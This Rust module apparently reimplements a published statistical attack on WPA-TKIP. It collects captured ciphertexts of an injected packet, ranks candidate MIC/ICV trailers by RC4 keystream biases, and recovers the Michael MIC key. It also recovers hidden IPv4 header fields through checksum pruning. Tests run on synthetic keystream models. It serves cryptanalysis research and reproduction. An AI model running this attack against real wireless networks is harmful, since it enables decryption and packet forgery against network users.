//! The Section-5 attack: decrypting an injected TKIP packet and recovering the
//! Michael MIC key.
//!
//! Pipeline (Sect. 5.3):
//!
//! 1. Collect many encrypted copies of the injected packet. All plaintext bytes
//!    except the 8-byte MIC and 4-byte ICV trailer are known to the attacker.
//! 2. For each of the 12 unknown trailer positions, accumulate per-TSC-class
//!    ciphertext byte counts and convert them into single-byte plaintext
//!    likelihoods against the per-TSC keystream model (Paterson-style).
//! 3. Generate plaintext candidates in decreasing likelihood (Algorithm 1) and
//!    prune them with the CRC-32 consistency check between the candidate MIC
//!    and candidate ICV.
//! 4. From the surviving candidate, invert Michael to obtain the MIC key.
//!
//! The same candidate-plus-checksum idea recovers unknown IP/TCP header fields
//! (TTL, internal address, source port); [`recover_ipv4_fields`] implements
//! that variant against the IP header checksum.

use plaintext_recovery::{
    candidates::{generate_candidates, Candidate},
    charset::Charset,
    counts::SingleCounts,
    likelihood::SingleLikelihoods,
};

use crypto_prims::michael::MichaelKey;

use crate::{
    model::TkipKeystreamModel,
    mpdu::{derive_mic_key, trailer_is_consistent, FrameAddressing, TRAILER_LEN},
    net::{internet_checksum, Ipv4Header},
    TkipError,
};

/// Configuration of the MIC-key recovery attack.
#[derive(Debug, Clone)]
pub struct AttackConfig {
    /// Maximum number of plaintext candidates to generate and test against the ICV.
    ///
    /// The paper uses nearly `2^30`; reduced values trade success rate for time.
    pub max_candidates: usize,
}

impl Default for AttackConfig {
    fn default() -> Self {
        Self {
            max_candidates: 1 << 20,
        }
    }
}

/// Outcome of a successful MIC-key recovery.
#[derive(Debug, Clone, PartialEq)]
pub struct AttackOutcome {
    /// The recovered 12-byte trailer (MIC followed by ICV).
    pub trailer: [u8; TRAILER_LEN],
    /// The recovered Michael MIC key.
    pub mic_key: MichaelKey,
    /// Position (0-based) in the candidate list at which the consistent
    /// candidate was found — the quantity plotted in Fig. 9.
    pub candidate_index: usize,
    /// Number of candidates generated.
    pub candidates_tested: usize,
}

/// Accumulated per-TSC-class ciphertext statistics for the 12 trailer bytes.
#[derive(Debug, Clone)]
pub struct TrailerStatistics {
    /// One [`SingleCounts`] per TSC class, each tracking the 12 trailer positions.
    class_counts: Vec<SingleCounts>,
    /// 1-based keystream position of the first trailer byte.
    first_position: usize,
    captures: u64,
}

impl TrailerStatistics {
    /// Creates empty statistics for captures whose known payload has `payload_len` bytes.
    ///
    /// The trailer then occupies keystream positions
    /// `payload_len + 1 ..= payload_len + 12`.
    ///
    /// # Errors
    ///
    /// Returns [`TkipError::InvalidConfig`] if `classes == 0`.
    pub fn new(classes: usize, payload_len: usize) -> Result<Self, TkipError> {
        if classes == 0 {
            return Err(TkipError::InvalidConfig(
                "need at least one TSC class".into(),
            ));
        }
        let first_position = payload_len + 1;
        let positions: Vec<u64> = (0..TRAILER_LEN as u64)
            .map(|i| first_position as u64 + i)
            .collect();
        let class_counts = (0..classes)
            .map(|_| SingleCounts::new(positions.clone()).expect("positions are valid"))
            .collect();
        Ok(Self {
            class_counts,
            first_position,
            captures: 0,
        })
    }

    /// 1-based keystream position of the first trailer byte.
    pub fn first_position(&self) -> usize {
        self.first_position
    }

    /// Number of captures accumulated.
    pub fn captures(&self) -> u64 {
        self.captures
    }

    /// Adds one capture. The ciphertext must be `payload_len + 12` bytes.
    ///
    /// # Errors
    ///
    /// Returns [`TkipError::Malformed`] when the ciphertext has the wrong length
    /// and [`TkipError::InvalidConfig`] when the class index is out of range.
    pub fn add(&mut self, class: usize, ciphertext: &[u8]) -> Result<(), TkipError> {
        if ciphertext.len() != self.first_position - 1 + TRAILER_LEN {
            return Err(TkipError::Malformed(format!(
                "expected ciphertext of {} bytes, got {}",
                self.first_position - 1 + TRAILER_LEN,
                ciphertext.len()
            )));
        }
        let counts = self
            .class_counts
            .get_mut(class)
            .ok_or_else(|| TkipError::InvalidConfig(format!("TSC class {class} out of range")))?;
        for (idx, &byte) in ciphertext[self.first_position - 1..].iter().enumerate() {
            counts.record_byte(idx, byte);
        }
        counts.add_ciphertexts(1);
        self.captures += 1;
        Ok(())
    }

    /// Computes the combined single-byte plaintext likelihoods for each trailer
    /// position by summing per-class log-likelihoods against the model.
    ///
    /// # Errors
    ///
    /// Returns [`TkipError::InvalidConfig`] if the model does not cover the
    /// trailer positions.
    pub fn likelihoods(
        &self,
        model: &TkipKeystreamModel,
    ) -> Result<Vec<SingleLikelihoods>, TkipError> {
        let last_needed = self.first_position + TRAILER_LEN - 1;
        if model.first_position() > self.first_position
            || model.first_position() + model.positions() <= last_needed
        {
            return Err(TkipError::InvalidConfig(format!(
                "keystream model covers positions {}..{} but the trailer needs {}..{}",
                model.first_position(),
                model.first_position() + model.positions() - 1,
                self.first_position,
                last_needed
            )));
        }
        let mut out = Vec::with_capacity(TRAILER_LEN);
        for idx in 0..TRAILER_LEN {
            let position = self.first_position + idx;
            let mut combined = SingleLikelihoods::flat();
            for (class, counts) in self.class_counts.iter().enumerate() {
                if counts.ciphertexts() == 0 {
                    continue;
                }
                let dist = model.distribution(class, position);
                let lik = SingleLikelihoods::from_counts(counts.counts_at(idx), dist)
                    .map_err(|e| TkipError::InvalidConfig(e.to_string()))?;
                combined.combine(&lik);
            }
            out.push(combined);
        }
        Ok(out)
    }
}

/// Runs the full MIC-key recovery: likelihoods → candidate list → ICV pruning →
/// Michael inversion.
///
/// `known_payload` is the plaintext MSDU body of the injected packet (which the
/// attacker chose or reconstructed), `addressing` the frame addressing needed
/// for the Michael header.
///
/// # Errors
///
/// * [`TkipError::InvalidConfig`] for empty statistics or a model/position mismatch.
/// * [`TkipError::AttackFailed`] when no candidate within the budget satisfies
///   the ICV consistency check.
pub fn recover_mic_key(
    stats: &TrailerStatistics,
    model: &TkipKeystreamModel,
    known_payload: &[u8],
    addressing: &FrameAddressing,
    config: &AttackConfig,
) -> Result<AttackOutcome, TkipError> {
    if stats.captures() == 0 {
        return Err(TkipError::InvalidConfig(
            "no captures were accumulated".into(),
        ));
    }
    if known_payload.len() + 1 != stats.first_position() {
        return Err(TkipError::InvalidConfig(format!(
            "payload length {} inconsistent with trailer position {}",
            known_payload.len(),
            stats.first_position()
        )));
    }
    let likelihoods = stats.likelihoods(model)?;
    let candidates = generate_candidates(&likelihoods, config.max_candidates, &Charset::full())
        .map_err(|e| TkipError::InvalidConfig(e.to_string()))?;
    match find_consistent_candidate(&candidates, known_payload) {
        Some((index, trailer)) => {
            let mic: [u8; 8] = trailer[..8].try_into().expect("trailer has 12 bytes");
            let mic_key = derive_mic_key(addressing, known_payload, &mic);
            Ok(AttackOutcome {
                trailer,
                mic_key,
                candidate_index: index,
                candidates_tested: candidates.len(),
            })
        }
        None => Err(TkipError::AttackFailed(format!(
            "no ICV-consistent candidate among {}",
            candidates.len()
        ))),
    }
}

/// Scans a candidate list for the first trailer whose ICV is consistent with the
/// known payload, returning its index and value.
pub fn find_consistent_candidate(
    candidates: &[Candidate],
    known_payload: &[u8],
) -> Option<(usize, [u8; TRAILER_LEN])> {
    for (index, cand) in candidates.iter().enumerate() {
        if cand.plaintext.len() != TRAILER_LEN {
            continue;
        }
        let trailer: [u8; TRAILER_LEN] = cand.plaintext[..].try_into().expect("length checked");
        if trailer_is_consistent(known_payload, &trailer) {
            return Some((index, trailer));
        }
    }
    None
}

/// Recovers unknown IPv4 header fields (TTL and the two unknown source-address
/// bytes of a NATed client) by candidate generation pruned with the IP header
/// checksum, mirroring Sect. 5.3's observation that the header checksums make
/// the "unknown field" problem the same problem as the MIC/ICV one.
///
/// `template` is the header with the unknown fields zeroed; `likelihoods` are
/// single-byte likelihoods for the unknown bytes in the order
/// `[TTL, src[2], src[3]]`; the checksum field of the template must contain the
/// value observed on the wire (it is part of the known plaintext).
///
/// # Errors
///
/// * [`TkipError::InvalidConfig`] when the likelihood count is not 3.
/// * [`TkipError::AttackFailed`] when no candidate matches the checksum.
pub fn recover_ipv4_fields(
    template: &Ipv4Header,
    wire_checksum: u16,
    likelihoods: &[SingleLikelihoods],
    max_candidates: usize,
) -> Result<(u8, [u8; 4]), TkipError> {
    if likelihoods.len() != 3 {
        return Err(TkipError::InvalidConfig(
            "expected likelihoods for TTL and two source-address bytes".into(),
        ));
    }
    let candidates = generate_candidates(likelihoods, max_candidates, &Charset::full())
        .map_err(|e| TkipError::InvalidConfig(e.to_string()))?;
    for cand in &candidates {
        let ttl = cand.plaintext[0];
        let mut src = template.src;
        src[2] = cand.plaintext[1];
        src[3] = cand.plaintext[2];
        let trial = Ipv4Header {
            ttl,
            src,
            ..*template
        };
        let mut encoded = trial.encode();
        // `encode` wrote a fresh checksum; compare the checksum computed over the
        // candidate header against the one observed on the wire.
        let computed = u16::from_be_bytes([encoded[10], encoded[11]]);
        if computed == wire_checksum {
            encoded[10] = 0;
            encoded[11] = 0;
            debug_assert_eq!(internet_checksum(&encoded), computed);
            return Ok((ttl, src));
        }
    }
    Err(TkipError::AttackFailed(
        "no candidate matches the IP checksum".into(),
    ))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{
        injection::{InjectionConfig, InjectionSimulator},
        model::TscClassing,
        mpdu::encapsulate,
        Tsc,
    };
    use plaintext_recovery::likelihood::SingleLikelihoods;

    fn addressing() -> FrameAddressing {
        FrameAddressing {
            dst: [0x00, 0x0c, 0x29, 0x01, 0x02, 0x03],
            src: [0x00, 0x0c, 0x29, 0xaa, 0xbb, 0xcc],
            transmitter: [0x00, 0x0c, 0x29, 0xaa, 0xbb, 0xcc],
            priority: 0,
        }
    }

    #[test]
    fn trailer_statistics_accumulate() {
        let mut stats = TrailerStatistics::new(256, 55).unwrap();
        assert_eq!(stats.first_position(), 56);
        let ct = vec![0x5Au8; 55 + 12];
        stats.add(3, &ct).unwrap();
        stats.add(3, &ct).unwrap();
        assert_eq!(stats.captures(), 2);
        assert!(stats.add(3, &ct[..20]).is_err());
        assert!(stats.add(999, &ct).is_err());
        assert!(TrailerStatistics::new(0, 55).is_err());
    }

    #[test]
    fn likelihoods_require_covering_model() {
        let stats = TrailerStatistics::new(256, 55).unwrap();
        let too_short = TkipKeystreamModel::uniform(TscClassing::Tsc1, 56, 4);
        assert!(stats.likelihoods(&too_short).is_err());
        let covering = TkipKeystreamModel::uniform(TscClassing::Tsc1, 49, 20);
        // No captures yet -> flat likelihoods, but the call itself succeeds.
        let liks = stats.likelihoods(&covering).unwrap();
        assert_eq!(liks.len(), TRAILER_LEN);
    }

    /// End-to-end attack against a synthetic keystream model: captures are
    /// generated so that the keystream actually follows the model (the "genie"
    /// simulation the paper's Fig. 8 success-rate curves are built from),
    /// with an exaggerated bias so the test needs only a few thousand captures.
    #[test]
    fn recovers_mic_key_with_synthetic_model() {
        use rand::{rngs::StdRng, Rng, SeedableRng};

        let payload: Vec<u8> = (0..55u8).collect();
        let addressing = addressing();
        let mic_key = MichaelKey {
            l: 0x1337_BEEF,
            r: 0x0BAD_F00D,
        };

        // Build the true trailer for this payload.
        let mut mic_input = Vec::new();
        mic_input.extend_from_slice(&addressing.michael_header());
        mic_input.extend_from_slice(&payload);
        let mic = crypto_prims::michael::michael(mic_key, &mic_input);
        let mut body = payload.clone();
        body.extend_from_slice(&mic);
        let icv = crypto_prims::crc32::icv(&body);
        let mut plaintext_frame = body.clone();
        plaintext_frame.extend_from_slice(&icv);

        // Synthetic per-TSC model with a strong bias, covering the trailer.
        let model = TkipKeystreamModel::synthetic(TscClassing::Tsc1, 56, 12, 4.0);

        // Sample keystream bytes from the model per capture and encrypt the trailer.
        let mut stats = TrailerStatistics::new(256, payload.len()).unwrap();
        let mut rng = StdRng::seed_from_u64(0xA77AC);
        let captures = 6_000u64;
        for i in 0..captures {
            let tsc = Tsc(i + 1);
            let class = model.class_of(tsc);
            let mut ct = vec![0u8; payload.len() + 12];
            // Known payload bytes: their ciphertext values are irrelevant to the stats.
            for (idx, slot) in ct.iter_mut().enumerate().take(payload.len()) {
                *slot = idx as u8;
            }
            for idx in 0..12 {
                let dist = model.distribution(class, 56 + idx);
                let mut u: f64 = rng.gen();
                let mut z = 255u8;
                for (v, &p) in dist.iter().enumerate() {
                    if u < p {
                        z = v as u8;
                        break;
                    }
                    u -= p;
                }
                ct[payload.len() + idx] = plaintext_frame[payload.len() + idx] ^ z;
            }
            stats.add(class, &ct).unwrap();
        }

        let outcome = recover_mic_key(
            &stats,
            &model,
            &payload,
            &addressing,
            &AttackConfig {
                max_candidates: 1 << 12,
            },
        )
        .unwrap();
        assert_eq!(outcome.mic_key, mic_key);
        assert_eq!(&outcome.trailer[..8], &mic);
        assert_eq!(&outcome.trailer[8..], &icv);
        assert!(outcome.candidate_index < outcome.candidates_tested);
    }

    #[test]
    fn attack_fails_gracefully_without_signal() {
        // Uniform model and uniform captures: no candidate will be preferred and
        // the ICV check will almost surely fail within a tiny budget.
        let payload: Vec<u8> = vec![7u8; 55];
        let model = TkipKeystreamModel::uniform(TscClassing::Tsc1, 56, 12);
        let mut stats = TrailerStatistics::new(256, 55).unwrap();
        let ct = vec![0xAAu8; 55 + 12];
        stats.add(0, &ct).unwrap();
        let result = recover_mic_key(
            &stats,
            &model,
            &payload,
            &addressing(),
            &AttackConfig { max_candidates: 4 },
        );
        assert!(matches!(result, Err(TkipError::AttackFailed(_))));

        // And with no captures at all the configuration is rejected.
        let empty = TrailerStatistics::new(256, 55).unwrap();
        assert!(matches!(
            recover_mic_key(
                &empty,
                &model,
                &payload,
                &addressing(),
                &AttackConfig::default()
            ),
            Err(TkipError::InvalidConfig(_))
        ));
    }

    #[test]
    fn end_to_end_with_real_tkip_frames_and_genie_trailer_knowledge() {
        // Sanity-check the plumbing against *real* TKIP encapsulation: capture
        // genuine frames, then hand the attack a "genie" model built from the
        // true keystream trailer bytes of those frames. With the genie model the
        // top candidate must be the true trailer, proving the statistics,
        // likelihood and pruning plumbing agree with the real encapsulation.
        let payload: Vec<u8> = (0..55u8).map(|i| i.wrapping_mul(3)).collect();
        let tk = [0x77u8; 16];
        let mic_key = MichaelKey { l: 5, r: 6 };
        let addressing = addressing();
        let mut sim = InjectionSimulator::new(
            tk,
            mic_key,
            addressing,
            payload.clone(),
            InjectionConfig {
                retransmission_rate: 0.0,
                loss_rate: 0.0,
                ..InjectionConfig::default()
            },
        )
        .unwrap();
        let captures = sim.capture(400);

        // True trailer plaintext (recompute exactly as encapsulation does).
        let reference = encapsulate(&tk, mic_key, &addressing, Tsc(1), &payload);
        let key = crate::keymix::mix_key(&tk, &addressing.transmitter, Tsc(1));
        let mut plain = reference.ciphertext.clone();
        rc4::apply(&key, &mut plain).unwrap();
        let true_trailer = &plain[payload.len()..];

        // Genie model: per class, the trailer keystream distribution is a point
        // mass on the actual keystream bytes of the first capture in that class
        // (later captures of the same class are skipped so model and statistics
        // agree exactly — this isolates the plumbing from statistical noise).
        let classes = 256;
        let positions = 12;
        let mut probs = vec![1.0 / 256.0; classes * positions * 256];
        let mut stats = TrailerStatistics::new(classes, payload.len()).unwrap();
        let mut seen_class = vec![false; classes];
        for cap in &captures {
            let class = TscClassing::Tsc1.class_of(cap.tsc);
            if seen_class[class] {
                continue;
            }
            seen_class[class] = true;
            let pkt_key = crate::keymix::mix_key(&tk, &addressing.transmitter, cap.tsc);
            let ks = rc4::keystream(&pkt_key, payload.len() + 12).unwrap();
            for idx in 0..positions {
                let z = ks[payload.len() + idx] as usize;
                let start = (class * positions + idx) * 256;
                for (v, slot) in probs[start..start + 256].iter_mut().enumerate() {
                    *slot = if v == z { 0.9 } else { 0.1 / 255.0 };
                }
            }
            stats.add(class, &cap.ciphertext).unwrap();
        }
        let model = TkipKeystreamModel::from_probabilities(
            TscClassing::Tsc1,
            payload.len() + 1,
            positions,
            probs,
        )
        .unwrap();

        let outcome = recover_mic_key(
            &stats,
            &model,
            &payload,
            &addressing,
            &AttackConfig { max_candidates: 64 },
        )
        .unwrap();
        assert_eq!(&outcome.trailer[..], true_trailer);
        assert_eq!(outcome.mic_key, mic_key);
    }

    #[test]
    fn ipv4_field_recovery_by_checksum() {
        // The victim's true header.
        let truth = Ipv4Header::tcp([192, 168, 1, 77], [203, 0, 113, 5], 7, 57);
        let encoded = truth.encode();
        let wire_checksum = u16::from_be_bytes([encoded[10], encoded[11]]);

        // The attacker knows everything except TTL and the last two source bytes.
        let template = Ipv4Header {
            ttl: 0,
            src: [192, 168, 0, 0],
            ..truth
        };
        // Likelihoods that rank the truth within the first few candidates.
        let mut ttl_lik = vec![0.0f64; 256];
        ttl_lik[57] = 2.0;
        ttl_lik[64] = 2.5; // a more likely—but wrong—guess comes first
        let mut src2_lik = vec![0.0f64; 256];
        src2_lik[1] = 3.0;
        let mut src3_lik = vec![0.0f64; 256];
        src3_lik[77] = 1.0;
        src3_lik[78] = 2.0;
        let liks = vec![
            SingleLikelihoods::from_log_values(ttl_lik).unwrap(),
            SingleLikelihoods::from_log_values(src2_lik).unwrap(),
            SingleLikelihoods::from_log_values(src3_lik).unwrap(),
        ];
        let (ttl, src) = recover_ipv4_fields(&template, wire_checksum, &liks, 4096).unwrap();
        assert_eq!(ttl, 57);
        assert_eq!(src, [192, 168, 1, 77]);

        // Wrong number of likelihood positions is rejected.
        assert!(recover_ipv4_fields(&template, wire_checksum, &liks[..2], 16).is_err());
    }
}
